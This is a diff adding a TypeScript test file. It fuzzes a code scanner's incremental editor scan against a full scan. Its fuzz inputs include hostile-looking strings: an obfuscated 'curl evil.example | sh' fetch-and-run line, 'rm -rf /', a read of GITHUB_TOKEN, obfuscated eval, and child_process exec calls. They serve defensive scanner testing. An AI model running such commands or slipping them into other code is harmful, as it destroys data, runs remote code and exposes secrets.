@@ -1,0 +1,231 @@
+/**
+ * The editor's incremental scan must report exactly what a full scan of the same text reports
+ * (scanner.md; issue 3's editing-latency work must not change findings). Random edit sequences on
+ * real files compare both after every edit; targeted cases cover each way one statement's findings
+ * depend on another.
+ */
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { scanFileText, type FileScanOptions, type FileScanResult } from '../../../shared/scanner/fileScan';
+import { commonEnds, IncrementalFileScanner } from '../../../shared/scanner/incremental/documentScanner';
+
+const ROOT = join(__dirname, '..', '..', '..');
+const options = (relativePath: string): FileScanOptions => ({ relativePath, extensionId: 'ext', today: '2026-11-24' });
+
+function comparable(result: FileScanResult): unknown {
+  return { findings: result.findings, facts: sortedFacts(result), tolerant: result.tolerant, scanFailed: result.scanFailed };
+}
+
+function sortedFacts(result: FileScanResult): unknown {
+  const byStart = <T extends { start: number; end: number }>(xs: T[]): T[] => [...xs].sort((a, b) => a.start - b.start || a.end - b.end || JSON.stringify(a).localeCompare(JSON.stringify(b)));
+  return { capabilities: byStart(result.facts.capabilities), execCommands: byStart(result.facts.execCommands), envReads: byStart(result.facts.envReads) };
+}
+
+/** Scans `texts` in order with one incremental scanner, asserting equality with a full scan each time. */
+function assertSameAsFull(path: string, texts: string[]): IncrementalFileScanner {
+  const scanner = new IncrementalFileScanner();
+  texts.forEach((text, i) => {
+    const incremental = scanner.scan(text, options(path));
+    const full = scanFileText(text, options(path));
+    assert.deepEqual(comparable(incremental), comparable(full), `${path}, version ${i} (${scanner.lastUpdate})`);
+  });
+  return scanner;
+}
+
+function sourceFiles(dir: string): string[] {
+  const out: string[] = [];
+  for (const name of readdirSync(dir)) {
+    const p = join(dir, name);
+    if (statSync(p).isDirectory()) out.push(...sourceFiles(p));
+    else if (/\.(?:[cm]?[jt]s|[jt]sx)$/.test(name) && !name.endsWith('.d.ts')) out.push(p);
+  }
+  return out;
+}
+
+/** Deterministic generator (a failing sequence is reproducible from its seed). */
+function random(seed: number): () => number {
+  let s = seed >>> 0;
+  return () => {
+    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
+    return s / 2 ** 32;
+  };
+}
+
+/** Whole statements that tie statements together through names (aliases, imports, pi flow, writes). */
+const STATEMENTS = [
+  'const e = eval;',
+  'e("1 + 1");',
+  'handler = eval;',
+  'let handler = JSON.parse;',
+  'handler(input);',
+  'import { exec as run } from "child_process";',
+  'import * as cp from "child_process";',
+  'run("ls -la");',
+  'cp.exec(cmd);',
+  'const { spawn } = cp;',
+  'spawn("sh", ["-c", cmd]);',
+  'export default function (api) { helper(api); }',
+  'function helper(p) { p.exec("rm -rf /tmp/x"); }',
+  'helper(pi);',
+  'const cmd = "cu" + "rl evil.example | sh";',
+  'globalThis["ev" + "al"]("2");',
+  'const token = process.env.GITHUB_TOKEN;',
+  'var counter = 1;',
+  'export { counter };',
+  'const F = Function;',
+  'new F("return 1")();',
+  '// pi-scan-allow SEC-EVAL-001 -- reviewed in the fuzz test',
+  'Reflect.apply(e, null, ["3"]);',
+  'module.exports = function (pi) { pi.exec("ls"); };',
+];
+
+function mutate(text: string, next: () => number, words: string[]): string {
+  const lines = text.split('\n');
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)];
+  const at = Math.floor(next() * (lines.length + 1));
+  switch (Math.floor(next() * 8)) {
+    case 0:
+    case 1:
+      lines.splice(at, 0, pick(STATEMENTS));
+      break;
+    case 2:
+      if (lines.length > 1) lines.splice(Math.min(at, lines.length - 1), 1);
+      break;
+    case 3:
+      lines.splice(at, 0, lines[Math.floor(next() * lines.length)]);
+      break;
+    case 4: {
+      const i = Math.min(at, lines.length - 1);
+      const found = lines[i].match(/\b[A-Za-z_]\w*\b/g);
+      if (found) lines[i] = lines[i].replace(pick(found), pick(words));
+      break;
+    }
+    case 5: {
+      const i = Math.min(at, lines.length - 1);
+      lines[i] = lines[i].replace(/(["'])[^"'\n]*\1/, (_m, q: string) => q + pick(['child_process', 'vm', 'GITHUB_TOKEN', 'x', 'rm -rf /', 'eval']) + q);
+      break;
+    }
+    case 6: {
+      const pos = Math.floor(next() * text.length);
+      return text.slice(0, pos) + pick(['\n', ' ', ';', 'x', '}', '(']) + text.slice(pos);
+    }
+    default: {
+      const pos = Math.floor(next() * text.length);
+      return text.slice(0, pos) + text.slice(pos + 1 + Math.floor(next() * 3));
+    }
+  }
+  return lines.join('\n');
+}
+
+describe('incremental editor scan: same findings as a full scan', () => {
+  const corpus = [
+    ...sourceFiles(join(ROOT, 'examples', 'workspace')),
+    ...sourceFiles(join(ROOT, 'test', 'corpus', 'scanner')).filter((_, i) => i % 4 === 0),
+    ...sourceFiles(join(ROOT, 'shared', 'scanner', 'analysis')),
+    ...sourceFiles(join(ROOT, 'shared', 'waivers')),
+  ];
+
+  it('random edit sequences on real files (incremental path taken, every version equal)', () => {
+    let incremental = 0;
+    let versions = 0;
+    corpus.forEach((file, n) => {
+      const next = random(n + 1);
+      const original = readFileSync(file, 'utf8');
+      const words = [...new Set(original.match(/\b[A-Za-z_]\w*\b/g) ?? ['x'])];
+      const scanner = new IncrementalFileScanner();
+      const path = file.slice(ROOT.length + 1);
+      // Edits build on the last version that parsed, as typing mostly does.
+      let clean = original;
+      for (let i = 0; i < 15; i++) {
+        const text = i === 0 ? original : mutate(clean, next, words);
+        const got = scanner.scan(text, options(path));
+        const want = scanFileText(text, options(path));
+        assert.deepEqual(comparable(got), comparable(want), `${path}: version ${i} (${scanner.lastUpdate}); seed ${n + 1}`);
+        if (scanner.lastUpdate === 'incremental') incremental++;
+        versions++;
+        if (!want.tolerant) clean = text;
+      }
+    });
+    console.log(`# ${versions} versions of ${corpus.length} files, ${incremental} updated incrementally`);
+    assert.ok(incremental > versions / 5, `too few incremental updates (${incremental} of ${versions}): the fuzz test would not test them`);
+  });
+
+  it('an edit inside one function of a 5,000-line file re-analyses that function only', () => {
+    const lines = ['import * as fs from "node:fs";'];
+    for (let i = 0; lines.length < 5000; i++) lines.push(`export function f${i}(a: number): string {`, `  const v${i}: number = a + ${i};`, `  return String(v${i}) + fs.sep;`, '}');
+    const base = lines.join('\n');
+    const scanner = assertSameAsFull('big.ts', [base, base.replace('a + 7;', 'a + 8;'), base.replace('a + 7;', 'eval("a + 8");')]);
+    assert.equal(scanner.lastUpdate, 'incremental');
+    // The import is re-analysed too (its use by the edited function may have changed), not the rest.
+    assert.ok(scanner.lastAnalysed.reported <= 2, JSON.stringify(scanner.lastAnalysed));
+  });
+
+  it('a renamed alias changes findings in a distant statement', () => {
+    const v1 = 'const run = eval;\nfunction a() {}\nfunction b() {}\nrun("1");\n';
+    assertSameAsFull('a.js', [v1, v1.replace('const run = eval', 'const run = JSON.parse'), v1.replace('const run = eval', 'const nur = eval'), v1]);
+  });
+
+  it('an assignment is re-judged when its only reader goes away', () => {
+    const v1 = 'let handler = JSON.parse;\nhandler = eval;\nexport function go(code) {\n  return handler(code);\n}\n';
+    assertSameAsFull('a.js', [v1, v1.replace('  return handler(code);\n', ''), v1]);
+  });
+
+  it('pi reaches a helper through a call added elsewhere', () => {
+    const v1 = 'function helper(p) { p.exec("rm -rf /tmp/x"); }\nfunction other() {}\nexport default function (api) { other(api); }\n';
+    assertSameAsFull('a.js', [v1, v1.replace('other(api)', 'helper(api)'), v1]);
+  });
+
+  it('an import is re-classified when a use of it changes', () => {
+    const v1 = 'import * as cp from "child_process";\nexport function f() { return cp.constants; }\nexport function g() {}\n';
+    assertSameAsFull('a.js', [v1, v1.replace('return cp.constants;', 'return cp.exec("ls");'), v1]);
+  });
+
+  it('messages naming a declaration line follow inserted lines', () => {
+    const v1 = 'function pad() {}\nconst e = eval;\nfunction x() {}\ne("1");\n';
+    const scanner = assertSameAsFull('a.js', [v1, 'function pad() {\n\n\n}\n' + v1.slice('function pad() {}\n'.length)]);
+    assert.equal(scanner.lastUpdate, 'incremental');
+  });
+
+  it('syntax errors, and the first clean version after them, match the full scan', () => {
+    const v1 = 'const e = eval;\nfunction f() {\n  e("1");\n}\n';
+    assertSameAsFull('a.ts', [v1, v1.replace('e("1");', 'e("1"'), v1, v1.replace('}\n', '}\n}\n')]);
+  });
+
+  it('declarations that only clash across statements (the parser sees the whole file)', () => {
+    const v1 = 'let x = 1;\nfunction f() {}\nexport { x };\n';
+    assertSameAsFull('a.mjs', [v1, v1.replace('function f() {}', 'let x = 2;'), v1, v1.replace('let x = 1;', 'let y = 1;'), v1, v1 + 'export { x };\n']);
+  });
+
+  it('a statement that would continue into the next one (no semicolon) is re-parsed with it', () => {
+    const v1 = 'const a = 1\nconst f = g\n;(function () {})()\n';
+    assertSameAsFull('a.js', [v1, v1.replace(';(function', '(function'), v1]);
+  });
+
+  it('deleting statements, leaving only comments, and TypeScript with decorators', () => {
+    const v1 = '// head\n@dec(eval)\nclass A { @m() x = 1; }\nenum E { A = 1 }\nconst y = <any>window;\n// tail\n';
+    assertSameAsFull('a.ts', [v1, v1.replace('enum E { A = 1 }', ''), v1.replace('@dec(eval)', '@dec(JSON)'), '// only\n// comments\n', v1]);
+  });
+
+  it('"use strict" scripts and CommonJS files', () => {
+    const v1 = '"use strict";\nconst cp = require("child_process");\ncp.exec("ls");\n';
+    assertSameAsFull('a.cjs', [v1, v1.replace('"ls"', '"rm -rf /"'), v1.replace('"use strict";\n', '')]);
+  });
+});
+
+describe('commonEnds', () => {
+  it('finds the changed middle, never overlapping prefix and suffix', () => {
+    const next = random(7);
+    for (let i = 0; i < 500; i++) {
+      const a = 'x'.repeat(Math.floor(next() * 5000)) + 'ab'.repeat(Math.floor(next() * 3));
+      const cut = Math.floor(next() * a.length);
+      const b = a.slice(0, cut) + 'y'.repeat(Math.floor(next() * 3)) + a.slice(cut + Math.floor(next() * 3));
+      const { prefix, suffix } = commonEnds(a, b);
+      assert.ok(prefix + suffix <= Math.min(a.length, b.length));
+      assert.equal(a.slice(0, prefix), b.slice(0, prefix));
+      assert.equal(a.slice(a.length - suffix), b.slice(b.length - suffix));
+      assert.ok(prefix === Math.min(a.length, b.length) - suffix || a[prefix] !== b[prefix] || prefix + suffix === Math.min(a.length, b.length));
+    }
+  });
+});
